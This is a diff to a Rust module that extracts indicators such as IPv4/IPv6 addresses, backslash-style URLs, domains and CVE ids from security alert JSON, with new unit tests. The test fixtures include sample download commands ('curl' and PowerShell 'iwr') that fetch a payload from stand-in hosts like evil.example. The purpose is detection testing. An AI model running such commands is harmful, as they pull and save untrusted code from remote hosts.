@@ -12,10 +12,13 @@
 //!   [`SCAN_MAX_BYTES`] per field, so a 4 MiB alert cannot make a huge pack.
 //! - Precise before exhaustive: hashes are taken only from fields whose name says which hash it
 //!   is (or from Sysmon's `hashes` list); users, files, processes, command lines and registry keys
-//!   only from the fields that hold them; IPs, URLs and CVE ids also from free text.
+//!   only from the fields that hold them; IPs (v4 and v6), URLs and CVE ids also from free text.
+//! - A URL is what a browser opens as one: `scheme://...`, and for http, https, ftp and ftps
+//!   also the forms with backslashes after the colon (`http:\\host\path`, `https:/\host`),
+//!   which browsers read as `http://`.
 
 use std::collections::HashSet;
-use std::net::{IpAddr, Ipv4Addr};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 use std::sync::OnceLock;
 
 use regex::Regex;
@@ -219,9 +222,12 @@ impl Collector {
     }
 }
 
-/// The host of `scheme://[userinfo@]host[:port]/...`.
+/// The host of `scheme://[userinfo@]host[:port]/...` (or of `http:\\host\...`, as browsers
+/// read it).
 fn url_host(url: &str) -> Option<&str> {
-    let rest = &url[url.find("://")? + 3..];
+    static START: OnceLock<Regex> = OnceLock::new();
+    let start = pattern(&START, r"://|(?i:\b(?:https?|ftps?):[/\\]*\\[/\\]*)");
+    let rest = &url[start.find(url)?.end()..];
     let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
     let authority = &rest[..end];
     let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
@@ -292,7 +298,11 @@ fn scan_text(c: &mut Collector, text: &str, field: &str) {
     static IPV4: OnceLock<Regex> = OnceLock::new();
     static CVE: OnceLock<Regex> = OnceLock::new();
     static MAIL: OnceLock<Regex> = OnceLock::new();
-    let url = pattern(&URL, r#"(?i)\b(?:https?|ftps?)://[^\s"'<>`\\\x00-\x1f]+"#);
+    // `scheme://` ends at a backslash (Windows text escapes); a backslash form keeps them all.
+    let url = pattern(
+        &URL,
+        r#"(?i)\b(?:https?|ftps?)(?:://[^\s"'<>`\\\x00-\x1f]+|:[/\\]*\\[/\\]*[^\s"'<>`\x00-\x1f]+)"#,
+    );
     let ipv4 = pattern(&IPV4, r"\b\d{1,3}(?:\.\d{1,3}){3}\b");
     let cve = pattern(&CVE, r"(?i)\bCVE-\d{4}-\d{4,7}\b");
     let mail = pattern(
@@ -319,6 +329,9 @@ fn scan_text(c: &mut Collector, text: &str, field: &str) {
             c.add(K::Ip, m.as_str(), field);
         }
     }
+    for (start, end) in ipv6_spans(text) {
+        c.add(K::Ip, &text[start..end], field);
+    }
     for m in mail.captures_iter(text) {
         if let Some(d) = m.get(1) {
             c.add(K::Domain, d.as_str(), field);
@@ -327,6 +340,34 @@ fn scan_text(c: &mut Collector, text: &str, field: &str) {
     for m in cve.find_iter(text) {
         c.add(K::Cve, m.as_str(), field);
     }
+}
+
+/// Where IPv6 addresses are in `text` (byte ranges): runs of hex digits and colons, with an IPv4
+/// tail (`::ffff:10.0.0.1`), that parse as one and are not part of a longer word, number or run
+/// (`std::fs`, a time `03:35:52.290`, a MAC address do not parse or are cut off). `::` alone is
+/// punctuation, not the unspecified address.
+pub(super) fn ipv6_spans(text: &str) -> Vec<(usize, usize)> {
+    static IPV6: OnceLock<Regex> = OnceLock::new();
+    let re = pattern(
+        &IPV6,
+        r"(?i)(?:[0-9a-f]{0,4}:){2,7}(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[0-9a-f]{0,4})",
+    );
+    let joins = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == ':');
+    let mut out = Vec::new();
+    for m in re.find_iter(text) {
+        let before = text[..m.start()].chars().next_back();
+        let mut after = text[m.end()..].chars();
+        let (next, next2) = (after.next(), after.next());
+        let dotted_on = next == Some('.') && next2.is_some_and(|c| c.is_ascii_digit());
+        if joins(before) || joins(next) || dotted_on {
+            continue;
+        }
+        let s = m.as_str();
+        if s.bytes().any(|b| b.is_ascii_hexdigit()) && s.parse::<Ipv6Addr>().is_ok() {
+            out.push((m.start(), m.end()));
+        }
+    }
+    out
 }
 
 fn walk(c: &mut Collector, key: &str, path: &str, v: &Value) {
@@ -624,6 +665,59 @@ mod tests {
             );
         }
         assert!(first.windows(2).all(|w| w[0].kind <= w[1].kind));
+    }
+
+    #[test]
+    fn urls_with_backslashes_are_urls_with_their_raw_value_and_host() {
+        let a: Map<String, Value> = serde_json::from_value(serde_json::json!({
+            "full_log": "curl http:\\\\evil.example\\payload, HTTPS:/\\evil2.example/x now",
+            "data": {"url": "https:\\/evil3.example", "win": {"eventdata": {
+                "commandLine": "iwr http:\\\\\\\\evil4.example\\\\p -OutFile x"
+            }}}
+        }))
+        .expect("object");
+        let o = observables(&a);
+        let cmd = "data.win.eventdata.commandLine";
+        for (kind, value, field) in [
+            (K::Url, "http:\\\\evil.example\\payload", "full_log"),
+            (K::Domain, "evil.example", "full_log"),
+            (K::Url, "HTTPS:/\\evil2.example/x", "full_log"),
+            (K::Domain, "evil2.example", "full_log"),
+            (K::Url, "https:\\/evil3.example", "data.url"),
+            (K::Domain, "evil3.example", "data.url"),
+            (K::Url, "http:\\\\\\\\evil4.example\\\\p", cmd),
+            (K::Domain, "evil4.example", cmd),
+        ] {
+            assert!(
+                has(&o, kind, value, field),
+                "{kind:?} {value:?} {field}: {o:?}"
+            );
+        }
+        // A Windows path is no URL.
+        let p: Map<String, Value> =
+            serde_json::from_value(serde_json::json!({"full_log": "C:\\Windows\\x.exe"}))
+                .expect("object");
+        assert!(!observables(&p).iter().any(|o| o.kind == K::Url));
+    }
+
+    #[test]
+    fn ipv6_addresses_in_fields_urls_and_free_text_are_ips() {
+        let a: Map<String, Value> = serde_json::from_value(serde_json::json!({
+            "full_log": "Failed password from 2001:db8::bad:1 port 22 at 03:35:52; https://[2001:db8::c2]:8443/x, via ::ffff:10.66.6.7",
+            "data": {"srcip": "2001:db8::7"}
+        }))
+        .expect("object");
+        let o = observables(&a);
+        for (value, field) in [
+            ("2001:db8::7", "data.srcip"),
+            ("2001:db8::bad:1", "full_log"),
+            ("2001:db8::c2", "full_log"),
+            ("::ffff:10.66.6.7", "full_log"),
+            ("10.66.6.7", "full_log"),
+        ] {
+            assert!(has(&o, K::Ip, value, field), "{value} {field}: {o:?}");
+        }
+        assert_eq!(o.iter().filter(|x| x.kind == K::Ip).count(), 5, "{o:?}");
     }
 
     #[test]
